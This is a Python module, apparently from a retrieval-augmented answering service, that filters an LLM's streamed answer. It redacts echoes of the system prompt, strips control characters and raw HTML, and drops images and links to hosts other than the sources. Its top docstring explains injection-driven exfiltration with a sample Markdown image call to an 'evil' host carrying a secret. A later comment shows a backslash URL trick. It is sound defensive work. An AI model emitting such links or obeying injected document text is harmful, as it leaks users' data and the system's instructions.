"""What an answer must not carry to its reader, whatever a hostile document made the LLM write.

The prompt asks the model to treat sources as data; this module makes these outcomes hold even
when it does not:

- no terminal control characters (domain/text.py's `without_controls`, per character, so an escape
  sequence split across two batches cannot be put back together);
- the system prompt is not repeated: a run of `ECHO_WORDS` or more of its words, in its order
  (case and punctuation aside), becomes `REDACTED`;
- nothing in the answer fetches anything, or links to a host that no source comes from (the
  way a document's injected text exfiltrates what the model knows: `![](https://evil/?q=secret)`
  is fetched by any Markdown renderer as it draws the answer). An image is its alt text
  whatever its host: a source's location is whatever its uploader wrote, so its host earns no
  trust to be fetched from, nor to be linked to with an address the model chose. Markdown
  links, inline, `<autolinks>` and reference definitions, keep their URL only if it is a
  source's own http(s) location, exactly; otherwise a link keeps its text, and an autolink or
  a definition goes;
- no raw HTML (llm/raw_html.py).

All run on the stream, each piece as the LLM sends it (the answer job coalesces what comes
out), so that every `token` event, the `done` answer and /job-status carry the same clean text.
Each holds back only the tail that may still turn out to be an echo, a link or a tag (usually
nothing; at most a few words, or `MAX_LINK` / raw_html.py's `MAX_TAG` characters), and gives it
out with the first piece that decides it: text that can start none of them goes out at once, so
the answer's first words never wait for a timer. Each piece costs one scan of itself and of
that tail.
"""

from __future__ import annotations

import functools
import re
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

from rag_async.domain.sources import Source
from rag_async.domain.text import without_controls
from rag_async.providers.llm.prompt import SYSTEM_PROMPT
from rag_async.providers.llm.raw_html import HtmlGuard

ECHO_WORDS = 10  # shorter runs occur in honest answers ("could not find it in the documents")
REDACTED = "[redacted]"
MAX_LINK = 2000  # characters held back waiting for a link to be decided: more and it is text


async def screen(pieces: AsyncIterator[str], sources: Sequence[Source]) -> AsyncIterator[str]:
    """The answer's pieces without control characters, echoes of the system prompt, images,
    links to foreign hosts or raw HTML: one string for each piece, what is now known to be
    clean (held text goes out with the piece that decides it, or at the end). A piece that
    gives out nothing yields "", so that a consumer batching by time sees time pass."""
    echo, links, tags = EchoGuard(SYSTEM_PROMPT), LinkGuard(source_locations(sources)), HtmlGuard()
    async for piece in pieces:
        yield tags.feed(links.feed(echo.feed(without_controls(piece))))
    if text := tags.feed(links.feed(echo.feed("", final=True), final=True), final=True):
        yield text


# --- echoes of the system prompt -------------------------------------------------------------

_WORD = re.compile(r"\w+")


@dataclass(frozen=True, slots=True)
class _Secret:
    runs: frozenset[tuple[str, ...]]  # every run of ECHO_WORDS words
    starts: frozenset[tuple[str, ...]]  # every shorter run: what the start of an echo looks like
    # Every shorter run followed by the prefix of its next word: what the start of an echo
    # looks like when the stream has cut its last word.
    cut_starts: frozenset[tuple[str, ...]]


@functools.cache
def _secret(text: str) -> _Secret:
    words = [word.lower() for word in _WORD.findall(text)]

    def runs(n: int) -> set[tuple[str, ...]]:
        return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}

    return _Secret(
        runs=frozenset(runs(ECHO_WORDS)),
        starts=frozenset().union(*(runs(n) for n in range(1, ECHO_WORDS))),
        cut_starts=frozenset(
            (*words[i : i + n], words[i + n][:k])
            for n in range(ECHO_WORDS)
            for i in range(len(words) - n)
            for k in range(1, len(words[i + n]) + 1)
        ),
    )


class EchoGuard:
    """Redacts, from text fed in pieces, every run of `ECHO_WORDS` or more words of `secret`."""

    def __init__(self, secret: str) -> None:
        self._secret = _secret(secret)
        self._pending = ""
        self._in_word = False  # the text given out so far ends inside a word

    def feed(self, text: str, *, final: bool = False) -> str:
        """The text that is now known to be clean (all of it when `final`)."""
        pending = self._pending + text
        words = list(_WORD.finditer(pending))
        keys = [word.group().lower() for word in words]
        if self._in_word and words and words[0].start() == 0:
            keys[0] = ""  # the end of a word given out already: not a word of the secret
        complete = len(words)
        if not final and words and words[-1].end() == len(pending):
            complete -= 1  # the last word may go on in the next piece
        runs, out = self._secret.runs, []
        given = i = 0
        hold = len(pending)
        while i + ECHO_WORDS <= complete:
            if tuple(keys[i : i + ECHO_WORDS]) not in runs:
                i += 1
                continue
            end = i + ECHO_WORDS  # the echo's words are i..end-1; see how far it goes
            while end < complete and tuple(keys[end + 1 - ECHO_WORDS : end + 1]) in runs:
                end += 1
            if end == complete and not final:
                hold = words[i].start()  # it may go on in the next piece
                break
            out += [pending[given : words[i].start()], REDACTED]
            given, i = words[end - 1].end(), end
        else:
            if not final:
                hold = self._start_of_echo(pending, words, keys, i, complete)
        out.append(pending[given:hold])
        self._pending = pending[hold:]
        self._in_word = hold == len(pending) and bool(_WORD.match(pending[-1:]))
        return "".join(out)

    def _start_of_echo(
        self, pending: str, words: list[re.Match[str]], keys: list[str], i: int, complete: int
    ) -> int:
        """Where the tail that may begin an echo starts (the end of `pending` if none does):
        the longest run of the last words, from `i` on, that is the start of one."""
        if complete < len(words):
            # The last word may go on: a run that it does not go on cannot become an echo.
            cut = keys[complete]
            for k in range(max(i, complete + 1 - ECHO_WORDS), complete + 1):
                if (*keys[k:complete], cut) in self._secret.cut_starts:
                    return words[k].start()
            return len(pending)
        for k in range(i, complete):
            if tuple(keys[k:complete]) in self._secret.starts:
                return words[k].start()
        return len(pending)


# --- links and images ------------------------------------------------------------------------


def source_locations(sources: Sequence[Source]) -> frozenset[str]:
    """The sources' own http(s) locations: the only addresses an answer may link to. Whole
    addresses, not their hosts: a location is whatever its uploader wrote, and a link to its
    host with a path or query of the model's choosing could carry away what the model knows."""
    return frozenset(url for s in sources if (url := _http_location(s.source or "")))


# A link or an image starts at "[" or "![", an autolink at "<"; a "!" or "<" ending the text
# may start one once the next piece comes.
_OPENER = re.compile(r"!?\[|<(?=[A-Za-z]|\Z)|!\Z")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_AUTOLINK_START = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{0,31}(?::[^\s<>]*)?)?\Z")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")  # no link, image or definition spans one
_TITLE = re.compile(r'"[^"]*"|\'[^\']*\'|\([^()]*\)', re.DOTALL)
_DESTINATION = re.compile(r"\S*")
_URL_FIRST = re.compile(r"\s*<?((?:[A-Za-z][A-Za-z0-9+.\-]*:|//)[^\s<>]*)")
_HOLD = ("", -1)  # what `_link_at` says when a link may still be coming


class LinkGuard:
    """Strips, from text fed in pieces, every Markdown image, and the links to addresses not in
    `locations`."""

    def __init__(self, locations: frozenset[str]) -> None:
        self._locations = locations
        self._pending = ""
        # The start of the line given out so far: whether the held text may begin a reference
        # definition depends on it (" [1]:" in mid-sentence is none).
        self._line = ""

    def feed(self, text: str, *, final: bool = False) -> str:
        """The text that is now known to be clean (all of it when `final`)."""
        pending = self._pending + text
        out, hold = _unlinked(pending, self._locations, final, self._line)
        self._pending = pending[hold:]
        self._line = _line_start(self._line + out)
        return out


def _unlinked(text: str, locations: frozenset[str], final: bool, line: str = "") -> tuple[str, int]:
    """`text` cleaned up to where a link may still be unfinished, and that place. `line` is the
    start of the line that `text` goes on (clean text given out before it)."""
    out: list[str] = []
    i = 0
    while opener := _OPENER.search(text, i):
        start = opener.start()
        out.append(text[i:start])
        token = opener.group()
        if token == "<":
            autolink = _AUTOLINK.match(text, start)
            if autolink:
                out.append(autolink.group() if _allowed(autolink.group(1), locations) else "")
                i = autolink.end()
                continue
            if not final and _AUTOLINK_START.match(text, start):
                return "".join(out), start
        elif token == "!" and not final:  # the last character: an image may follow
            return "".join(out), start
        found = None
        if token not in ("<", "!"):
            # Where a definition may start is judged on the clean text, as a renderer sees it.
            before = _line_start(line + "".join(out))
            starts_line = len(before) <= 3 and not before.strip()
            found = _link_at(text, start, locations, final, starts_line)
        if found is _HOLD:
            return "".join(out), start
        if found is not None:
            out.append(found[0])
            i = found[1]
        else:  # plain brackets: what they hold is still looked at
            out.append(token)
            i = opener.end()
    out.append(text[i:])
    return "".join(out), len(text)


def _link_at(
    text: str, start: int, locations: frozenset[str], final: bool, starts_line: bool
) -> tuple[str, int] | None:
    """At a "[" or "![" (`starts_line` if only up to three spaces precede it on its line): the
    clean form of the link, image or definition that starts there and where it ends, `_HOLD` if
    one may still be coming, None if there is none."""
    image = text[start] == "!"
    opening = start + image
    blank_line = _BLANK_LINE.search(text, start) is not None
    too_long = not final and len(text) - start >= MAX_LINK
    may_grow = not final and not too_long and not blank_line
    close = _closing(text, opening, "[", "]")
    if close < 0 or close + 1 == len(text):
        if too_long and not blank_line:
            # Undecided for too long: escaped, the bracket cannot open a link that the rest
            # of the stream would close (Markdown shows "\[" as "[").
            return text[start:opening] + "\\[", opening + 1
        return _HOLD if may_grow else None
    if text[close + 1] == "(":  # an inline link or image
        end = _closing(text, close + 1, "(", ")")
        if end < 0 and may_grow:
            return _HOLD
        if end < 0:  # unbalanced by our count, yet a renderer may still see a link: no URL
            first = _URL_FIRST.match(text, close + 2)
            if first and not _allowed(first.group(1), locations):
                return text[start : close + 2], first.end()
            return None
        url = _target(text[close + 2 : end])
        if url is None:
            return None  # "[1](page 3)" is text
        label = _unlinked(text[opening + 1 : close], locations, final=True)[0]
        if not image and _allowed(url, locations):
            return f"[{label}]{text[close + 1 : end + 1]}", end + 1
        return label, end + 1
    if text[close + 1] == ":" and not image and starts_line:  # a definition
        end = text.find("\n", close)
        if end >= 0 and not text[close + 2 : end].strip():
            end = text.find("\n", end + 1)  # its URL may be on the next line
        if end < 0 and not final:
            if not _may_drop_definition(text[close + 2 :], locations):
                return None  # kept whatever the rest of its line says: no need to wait for it
            if may_grow:
                return _HOLD
        end = len(text) if end < 0 else end + 1
        url = _target(text[close + 2 : end])
        if url and not _allowed(url, locations):
            return "", end
    return None


def _closing(text: str, at: int, opening: str, closing: str) -> int:
    """The index of the bracket closing the one at `at` (nested pairs and backslash escapes
    skipped), or -1."""
    depth, i = 0, at
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 1
        elif char == opening:
            depth += 1
        elif char == closing:
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return -1


def _target(inside: str) -> str | None:
    """The URL in a link's parentheses, or after a definition's colon: a destination (`<url>`
    or one word) and maybe a title. None if `inside` is not that, unless it starts with
    something like a URL all the same."""
    inside = inside.strip()
    if inside.startswith("<"):
        url, _, rest = inside[1:].partition(">")
    else:
        url, *more = inside.split(maxsplit=1) or [""]
        rest = more[0] if more else ""
    rest = rest.strip()
    if not rest or _TITLE.fullmatch(rest) or _URL_FIRST.match(url):
        return url
    return None


def _may_drop_definition(after: str, locations: frozenset[str]) -> bool:
    """Whether the line of a definition whose text after the colon begins with `after` may
    still be dropped once it ends (`_target` finding a URL that is not allowed), whatever
    comes next: if not, it is kept as it is, and need not be held until its newline."""
    rest = after.lstrip()
    if rest.startswith("<"):
        url, closed, _ = rest[1:].partition(">")
        return not (closed and _allowed(url, locations))
    destination = _DESTINATION.match(rest)
    assert destination is not None  # it matches the empty string too
    url = destination.group()
    if not url or destination.end() == len(rest):
        return True  # the destination is still to come, or may go on
    if _allowed(url, locations):
        return False
    if _URL_FIRST.match(url):
        return True  # a definition, whatever follows on its line
    title = rest[destination.end() :].lstrip()
    return not title or title[0] in "\"'("  # a title may be coming; anything else is text


def _line_start(text: str) -> str:
    """The first characters of `text`'s last line: enough to tell whether a "[" after it may
    begin a reference definition (at most three spaces before it)."""
    return text[text.rfind("\n") + 1 :][:4]


def _allowed(url: str, locations: frozenset[str]) -> bool:
    # A backslash is a slash to a browser but not to urlsplit: "https://evil\\@good" would
    # pass for good and go to evil.
    return "\\" not in url and _http_location(url) in locations


_DEFAULT_PORTS = {"http": 80, "https": 443}


def _http_location(url: str) -> str | None:
    """An http(s) URL as one spelling (scheme and host lowercase, no default port, "/" for no
    path), None for anything else, a URL with a user name (a place to carry data) included."""
    try:
        parts = urlsplit(url.strip())
        host, port = parts.hostname, parts.port
    except ValueError:  # e.g. a malformed IPv6 host or port
        return None
    scheme = parts.scheme.lower()
    if scheme not in _DEFAULT_PORTS or not host or parts.username is not None:
        return None
    host = f"[{host}]" if ":" in host else host
    netloc = host if port in (None, _DEFAULT_PORTS[scheme]) else f"{host}:{port}"
    return parts._replace(scheme=scheme, netloc=netloc, path=parts.path or "/").geturl()
